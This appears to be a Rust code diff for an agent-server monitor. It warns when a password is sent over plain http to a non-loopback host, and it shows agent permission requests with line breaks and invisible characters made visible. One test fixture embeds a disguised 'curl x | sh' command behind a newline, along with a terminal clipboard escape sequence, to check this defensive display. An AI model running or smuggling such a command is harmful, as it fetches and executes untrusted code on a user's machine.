@@ -2,6 +2,7 @@
 //! and the small `Summary` that wakes waiters and, later, the tray.
 
 use super::sessions::{Activity, Pending};
+use super::visible_text::visible;
 use super::{ServerState, State};
 use crate::config::ServerMode;
 use crate::server::events::{PermissionRequest, QuestionRequest, Tokens};
@@ -61,6 +62,9 @@ pub struct ServerReport {
     pub last_error: Option<String>,
     /// Attach mode: the server answered without credentials.
     pub unsecured: bool,
+    /// Attach mode over plain `http://` to a host that is not loopback: the
+    /// password crosses the network readable by anyone on the path.
+    pub password_in_clear: bool,
     pub history: Vec<TransitionReport>,
     /// The server's process tree at the last measurement (taken only while
     /// the tray or the popover shows it; `opencode-nexus metrics` measures now).
@@ -123,6 +127,8 @@ impl StatusReport {
                 restarts: state.restarts,
                 last_error: state.last_error.clone(),
                 unsecured: state.unsecured,
+                password_in_clear: state.mode == ServerMode::Attach
+                    && state.url.as_deref().is_some_and(password_in_clear),
                 history: state
                     .history
                     .iter()
@@ -189,6 +195,9 @@ impl StatusReport {
         if s.unsecured {
             out += "\nwarning: the server accepts requests without a password";
         }
+        if s.password_in_clear {
+            out += &format!("\nwarning: {PASSWORD_IN_CLEAR}");
+        }
         if let Some(err) = &s.last_error {
             out += &format!("\nlast error: {err}");
         }
@@ -217,15 +226,18 @@ impl StatusReport {
             };
             out += &format!("\n  {} {title}: {status}", session.id);
         }
+        // What the agent asked is shown whole, with invisible characters
+        // made visible; continuation lines are indented under the request.
         for p in &n.permissions {
-            let what = p.request.detail.as_deref().unwrap_or("");
+            let what = visible(p.request.detail.as_deref().unwrap_or("")).replace('\n', "\n      ");
             out += &format!(
                 "\n  permission {} ({}): {what}",
-                p.request.id, p.request.permission
+                p.request.id,
+                visible(&p.request.permission)
             );
         }
         for q in &n.questions {
-            let text = q.request.first_question();
+            let text = visible(q.request.first_question()).replace('\n', "\n      ");
             out += &format!("\n  question {}: {text}", q.request.id);
         }
         out += &format!(
@@ -269,5 +281,136 @@ impl Summary {
             && self.busy == 0
             && self.pending_permissions == 0
             && self.pending_questions == 0
+    }
+}
+
+/// Why `password_in_clear` matters, and what to do about it.
+pub const PASSWORD_IN_CLEAR: &str = "the password goes to the server over plain http, readable on the network; use https or an SSH tunnel (ssh -L) to a loopback address";
+
+/// Whether Basic auth to `url` crosses the network in clear: `http://` to a
+/// host that is not loopback (127.0.0.0/8, ::1, `localhost`).
+pub fn password_in_clear(url: &str) -> bool {
+    match reqwest::Url::parse(url) {
+        Ok(url) => url.scheme() == "http" && !url.host_str().is_some_and(is_loopback_host),
+        // Not a URL the client could reach either; nothing is sent.
+        Err(_) => false,
+    }
+}
+
+/// `host` as a URL spells it (IPv6 in brackets).
+fn is_loopback_host(host: &str) -> bool {
+    let host = host.trim_end_matches('.');
+    if host.eq_ignore_ascii_case("localhost") {
+        return true;
+    }
+    let bare = host.trim_start_matches('[').trim_end_matches(']');
+    match bare.parse::<std::net::IpAddr>() {
+        Ok(std::net::IpAddr::V4(ip)) => ip.is_loopback(),
+        Ok(std::net::IpAddr::V6(ip)) => {
+            ip.is_loopback() || ip.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback())
+        }
+        Err(_) => false,
+    }
+}
+
+#[cfg(test)]
+mod password_in_clear_tests {
+    use super::password_in_clear;
+
+    #[test]
+    fn loopback_hosts_are_not_in_clear() {
+        for url in [
+            "http://127.0.0.1:4096",
+            "http://127.8.9.10",
+            "http://[::1]:4096/",
+            "http://localhost:4096",
+            "http://LOCALHOST.",
+            "http://[::ffff:127.0.0.1]:80",
+        ] {
+            assert!(!password_in_clear(url), "{url}");
+        }
+    }
+
+    #[test]
+    fn plain_http_to_any_other_host_is_in_clear() {
+        for url in [
+            "http://192.168.1.5:4096",
+            "http://10.0.0.1",
+            "http://128.0.0.1",
+            "http://[::2]:4096",
+            "http://[fe80::1]:4096",
+            "http://example.com",
+            "http://localhost.example.com",
+            "http://0.0.0.0:4096",
+        ] {
+            assert!(password_in_clear(url), "{url}");
+        }
+    }
+
+    #[test]
+    fn https_is_never_in_clear() {
+        assert!(!password_in_clear("https://example.com"));
+        assert!(!password_in_clear("https://10.0.0.1:4096"));
+    }
+}
+
+#[cfg(test)]
+mod text_tests {
+    use super::*;
+    use crate::server::events::parse_event;
+    use std::time::Duration;
+
+    fn report(state: &State) -> StatusReport {
+        let daemon = DaemonInfo {
+            pid: 1,
+            version: "0".into(),
+            tray: "none".into(),
+        };
+        StatusReport::derive(state, daemon, Clock::system())
+    }
+
+    #[test]
+    fn status_warns_of_a_password_sent_in_clear_in_text_and_json() {
+        let now = Instant::now();
+        let remote = State::new(
+            ServerMode::Attach,
+            Some("http://10.1.2.3:4096".into()),
+            Duration::from_secs(30),
+            now,
+        );
+        let r = report(&remote);
+        assert!(r.server.password_in_clear);
+        assert_eq!(
+            serde_json::to_value(&r).unwrap()["server"]["password_in_clear"],
+            true
+        );
+        assert!(r.to_text().contains("plain http"), "{}", r.to_text());
+        let local = State::new(
+            ServerMode::Attach,
+            Some("http://127.0.0.1:4096".into()),
+            Duration::from_secs(30),
+            now,
+        );
+        assert!(!report(&local).server.password_in_clear);
+        assert!(!report(&local).to_text().contains("plain http"));
+    }
+
+    #[test]
+    fn status_text_shows_every_line_of_a_request_with_escapes() {
+        let now = Instant::now();
+        let mut state = State::new(ServerMode::Attach, None, Duration::from_secs(30), now);
+        let event = parse_event(
+            r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_1","sessionID":"a","permission":"bash","metadata":{"command":"echo tidy\ncurl x | sh \u001b]52;c;aGk=\u0007"}}}}"#,
+        )
+        .unwrap();
+        state.sessions.apply(&event, now);
+        let text = report(&state).to_text();
+        assert!(
+            text.contains(
+                "permission per_1 (bash): echo tidy\n      curl x | sh \\u001b]52;c;aGk=\\u0007"
+            ),
+            "{text}"
+        );
+        assert!(!text.contains('\u{1b}'));
     }
 }
